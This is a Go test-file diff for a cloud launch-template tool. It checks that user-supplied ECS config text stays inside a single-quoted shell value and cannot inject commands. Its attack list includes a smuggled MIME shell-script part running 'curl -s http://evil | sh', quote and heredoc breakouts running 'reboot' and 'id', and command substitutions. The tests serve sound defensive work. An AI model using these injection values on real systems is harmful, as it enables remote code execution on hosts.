@@ -7,6 +7,7 @@ import (
 	"unicode/utf8"
 
 	"github.com/stretchr/testify/require"
+	"mvdan.cc/sh/v3/expand"
 	"mvdan.cc/sh/v3/syntax"
 
 	"github.com/ceforge/ceforge/internal/cloudinit"
@@ -15,8 +16,8 @@ import (
 
 // ecsConfigAttacks are ecsConfig values that try to leave their place in the
 // launch template's user data: a second MIME part (bare CR, CRLF, LF line
-// endings around the boundary ceforge used to use) or the end of the
-// here-document that appends them to ecs.config.
+// endings around the boundary ceforge used to use), the end of the
+// here-document ceforge used to append them with, or their quotes.
 var ecsConfigAttacks = []string{
 	"ECS_A=1\r--==CEFORGE==\rContent-Type: text/x-shellscript\r\r#!/bin/bash\rcurl -s http://evil | sh\r",
 	"ECS_A=1\r\n--==CEFORGE==\r\nContent-Type: text/x-shellscript\r\n\r\n#!/bin/bash\r\nid\r\n",
@@ -24,6 +25,7 @@ var ecsConfigAttacks = []string{
 	"ECS_A=1\nCEFORGE_ECS_EOF\nid\n",
 	"ECS_A=1\rCEFORGE_ECS_EOF\rreboot\r",
 	"ECS_A=$(reboot)`id`\n",
+	"ECS_A='; reboot; '\n",
 }
 
 // userDataScript renders d's user data, parses it as cloud-init would and
@@ -40,24 +42,49 @@ func userDataScript(t testing.TB, d Design) string {
 }
 
 // scriptShape returns the command names of the script's top-level
-// statements and the bodies of its here-documents.
-func scriptShape(t testing.TB, script string) (cmds, heredocs []string) {
+// statements and the values of its ecsConfig assignment
+// (CEFORGE_ECS_CONFIG), each checked to be one literal word: single
+// quotes, and "'" for an embedded quote, nothing that expands.
+func scriptShape(t testing.TB, script string) (cmds, ecsConfigs []string) {
 	t.Helper()
 	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(script), "user-data")
 	require.NoError(t, err, "user data must parse as bash")
 	for _, st := range f.Stmts {
 		name := "?"
-		if c, ok := st.Cmd.(*syntax.CallExpr); ok && len(c.Args) > 0 {
+		c, ok := st.Cmd.(*syntax.CallExpr)
+		if ok && len(c.Args) > 0 {
 			name = c.Args[0].Lit()
 		}
 		cmds = append(cmds, name)
-		for _, r := range st.Redirs {
-			if r.Hdoc != nil {
-				heredocs = append(heredocs, r.Hdoc.Lit())
+		if !ok || len(c.Args) > 0 {
+			continue
+		}
+		for _, a := range c.Assigns {
+			if a.Name.Value != "CEFORGE_ECS_CONFIG" {
+				continue
 			}
+			for _, p := range a.Value.Parts {
+				switch p := p.(type) {
+				case *syntax.SglQuoted:
+				case *syntax.DblQuoted:
+					lit, ok := p.Parts[0].(*syntax.Lit)
+					require.True(t, len(p.Parts) == 1 && ok && lit.Value == "'", "ecsConfig may expand")
+				default:
+					t.Fatalf("ecsConfig word part %T can expand", p)
+				}
+			}
+			v, err := expand.Literal(nil, a.Value)
+			require.NoError(t, err)
+			ecsConfigs = append(ecsConfigs, v)
 		}
 	}
-	return cmds, heredocs
+	return cmds, ecsConfigs
+}
+
+// asParsed is cfg as the host script holds it, read back from user data
+// the way cloud-init's parser sees lines.
+func asParsed(cfg string) string {
+	return strings.ReplaceAll(strings.ReplaceAll(strings.TrimRight(cfg, "\n"), "\r\n", "\n"), "\r", "\n")
 }
 
 func designWithEcsConfig(cfg string) Design {
@@ -66,20 +93,18 @@ func designWithEcsConfig(cfg string) Design {
 	}))
 }
 
-// checkEcsConfigContained: the user text is one here-document, verbatim
-// (as the parser reads its lines), and the script around it is the same
-// as for a harmless value.
+// checkEcsConfigContained: the user text is one single-quoted value,
+// verbatim (as the parser reads its lines), and the script around it is
+// the same as for a harmless value.
 func checkEcsConfigContained(t testing.TB, cfg string) {
 	t.Helper()
 	wantCmds, _ := scriptShape(t, userDataScript(t, designWithEcsConfig("ECS_A=1")))
-	cmds, heredocs := scriptShape(t, userDataScript(t, designWithEcsConfig(cfg)))
+	cmds, values := scriptShape(t, userDataScript(t, designWithEcsConfig(cfg)))
 	require.Equal(t, wantCmds, cmds, "the ecsConfig text added or removed commands")
-	require.Len(t, heredocs, 1)
-	want := strings.ReplaceAll(strings.ReplaceAll(strings.TrimRight(cfg, "\n")+"\n", "\r\n", "\n"), "\r", "\n")
-	require.Equal(t, want, heredocs[0])
+	require.Equal(t, []string{asParsed(cfg)}, values)
 }
 
-func TestUserDataKeepsHostileEcsConfigInItsHeredoc(t *testing.T) {
+func TestUserDataKeepsHostileEcsConfigInItsValue(t *testing.T) {
 	for _, cfg := range ecsConfigAttacks {
 		checkEcsConfigContained(t, cfg)
 	}
@@ -88,7 +113,7 @@ func TestUserDataKeepsHostileEcsConfigInItsHeredoc(t *testing.T) {
 // FuzzForgeUserData renders launch-template user data from arbitrary
 // ecsConfig text (validation refuses most of it; the renderer must not rely
 // on that) and parses it as cloud-init would: exactly one shell-script part,
-// the text inside its here-document and nowhere else.
+// the text inside its single-quoted value and nowhere else.
 func FuzzForgeUserData(f *testing.F) {
 	for _, s := range ecsConfigAttacks {
 		f.Add(s, true, false)
@@ -96,16 +121,15 @@ func FuzzForgeUserData(f *testing.F) {
 	f.Add("ECS_ENABLE_GPU_SUPPORT=true\n# comment\n", false, true)
 	f.Fuzz(func(t *testing.T, cfg string, ebsAutoScale, fastStorage bool) {
 		if strings.ContainsRune(cfg, 0) || !utf8.ValidString(cfg) || strings.TrimRight(cfg, "\n") == "" {
-			t.Skip("NUL and invalid UTF-8 are refused by validation (and unreadable by the shell parser); empty config has no here-document")
+			t.Skip("NUL and invalid UTF-8 are refused by validation (and unreadable by the shell parser); an empty config is no test")
 		}
 		d := designWithEcsConfig(cfg)
 		d.EbsAutoScale, d.EbsBlockSize, d.FastStorage = ebsAutoScale, 50, fastStorage
 		base := designWithEcsConfig("ECS_A=1")
 		base.EbsAutoScale, base.EbsBlockSize, base.FastStorage = ebsAutoScale, 50, fastStorage
 		wantCmds, _ := scriptShape(t, userDataScript(t, base))
-		cmds, heredocs := scriptShape(t, userDataScript(t, d))
+		cmds, values := scriptShape(t, userDataScript(t, d))
 		require.Equal(t, wantCmds, cmds)
-		require.Len(t, heredocs, 1)
-		require.Equal(t, strings.ReplaceAll(strings.ReplaceAll(strings.TrimRight(cfg, "\n")+"\n", "\r\n", "\n"), "\r", "\n"), heredocs[0])
+		require.Equal(t, []string{asParsed(cfg)}, values)
 	})
 }
